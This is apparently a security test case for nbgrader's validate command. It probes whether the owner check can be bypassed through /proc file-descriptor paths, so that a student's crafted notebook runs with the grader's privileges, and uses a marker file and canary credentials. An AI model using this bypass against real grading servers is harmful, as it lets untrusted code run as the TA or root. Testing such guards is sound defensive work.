"""a17: the Validate guard on paths through /proc: the TA validates /proc/<pid>/fd/<n> of a student's process that
holds her notebook open (e.g. a path she sent). realpath of a /proc fd magic link gives the target's path, so the
owner check should see hers; and a deleted file (no path left) gives "... (deleted)"."""
import os, subprocess, sys, time
sys.path.insert(0, (__import__("os").environ.get("ATTACK_ROOT_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", ".."))))
import nbformat
d = "/tmp/attack44-root-a17"; subprocess.run(["rm", "-rf", d]); os.makedirs(d); os.chown(d, 65534, 65534)
evil = nbformat.v4.new_notebook(); evil.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
evil.cells = [nbformat.v4.new_code_cell("import os\nopen('/tmp/attack44-root-a17/PWNED', 'w').write(str(os.getuid()))")]
HOLD = f"""
import os, time, sys
os.setgid(65534); os.setuid(65534)
open({d + '/e.ipynb'!r}, 'w').write(sys.stdin.read())
fd = os.open({d + '/e.ipynb'!r}, os.O_RDONLY)
if os.environ.get('UNLINK'): os.unlink({d + '/e.ipynb'!r})
print(os.getpid(), fd, flush=True)
time.sleep(60)
"""
env = dict(os.environ, DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
for unlink in ("", "1"):
    p = subprocess.Popen([sys.executable, "-c", HOLD], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, env=dict(os.environ, UNLINK=unlink))
    p.stdin.write(nbformat.writes(evil)); p.stdin.close()
    pid, fd = p.stdout.readline().split()
    path = f"/proc/{pid}/fd/{fd}"
    r = subprocess.run(["CLONE/.venv/bin/nbgrader", "validate", path], cwd="/tmp", env=env, capture_output=True, text=True, timeout=120)
    print("unlinked" if unlink else "present", "realpath:", os.path.realpath(path), "| refused:", "not validating" in r.stdout + r.stderr,
          "| rc", r.returncode, "| PWNED:", open(d + "/PWNED").read() if os.path.exists(d + "/PWNED") else "no")
    p.kill(); p.wait()
    if os.path.exists(d + "/PWNED"):
        os.remove(d + "/PWNED")
